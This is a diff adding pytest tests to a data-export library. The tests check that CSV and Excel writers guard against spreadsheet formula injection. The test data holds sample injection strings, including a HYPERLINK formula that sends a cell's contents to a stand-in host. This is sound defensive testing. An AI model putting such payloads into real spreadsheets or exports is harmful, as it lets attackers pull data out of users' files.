@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import datetime
 import gzip
 import json
@@ -92,3 +93,55 @@ def test_what_a_sheet_cannot_hold(on, tmp_path):
     with pytest.raises(SettingError, match="lists"):
         write_excel(on.frame([{"x": [1]}], pa.schema({"x": pa.list_(pa.int64())})), path=target)
     assert not list(tmp_path.iterdir())
+
+
+HOSTILE = [
+    '=HYPERLINK("http://x/?"&A1)',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "plain",
+    "a=b",
+    "",
+    None,
+    "'=1",
+]
+NAMED = pa.schema({"=name": pa.string()})
+GUARDED = [f"'{v}" if v and v[0] in "=+-@\t\r\n" else v for v in HOSTILE]
+
+
+def test_text_that_begins_like_a_formula_is_guarded_where_asked(on, tmp_path):
+    rows = [{"=name": text, "n": -i} for i, text in enumerate(HOSTILE)]
+    schema = pa.schema({"=name": pa.string(), "n": pa.int64()})
+    write_csv(on.frame(rows, schema), path=str(tmp_path / "t.csv"), guard_formulas=True)
+    with (tmp_path / "t.csv").open(newline="") as file:
+        found = list(csv.reader(file))
+    assert found[0] == ["'=name", "n"]
+    assert [text or None for text, _ in found[1:]] == [v or None for v in GUARDED]
+    assert [number for _, number in found[1:]] == [str(-i) for i in range(len(HOSTILE))], "numbers stay numbers"
+    book = openpyxl.Workbook()  # what a spreadsheet program makes of the cells
+    for row in found:
+        book.active.append(row)
+    assert {cell.data_type for row in book.active.iter_rows() for cell in row} <= {"s", "n"}
+
+
+def test_text_is_written_as_it_is_unless_guarding_is_asked_for(on, tmp_path):
+    write_csv(on.frame([{"=name": text} for text in HOSTILE], NAMED), path=str(tmp_path / "t.csv"))
+    with (tmp_path / "t.csv").open(newline="") as file:
+        assert [row[0] if row else "" for row in csv.reader(file)] == ["=name", *(v or "" for v in HOSTILE)]
+
+
+def test_a_guarded_name_that_is_taken_is_told(on, tmp_path):
+    schema = pa.schema({"=x": pa.int64(), "'=x": pa.int64()})
+    with pytest.raises(SettingError, match='already called "\'=x"'):
+        write_csv(on.frame([{"=x": 1, "'=x": 2}], schema), path=str(tmp_path / "t.csv"), guard_formulas=True)
+
+
+def test_every_hostile_text_reads_back_as_text_from_excel(on, tmp_path):
+    write_excel(on.frame([{"=name": text} for text in HOSTILE[:6]], NAMED), path=str(tmp_path / "t.xlsx"))
+    cells = [cell for (cell,) in openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows()]
+    assert [cell.data_type for cell in cells] == ["s"] * 7
+    assert [cell.value.replace("\n", "\r") for cell in cells] == ["=name", *HOSTILE[:6]]
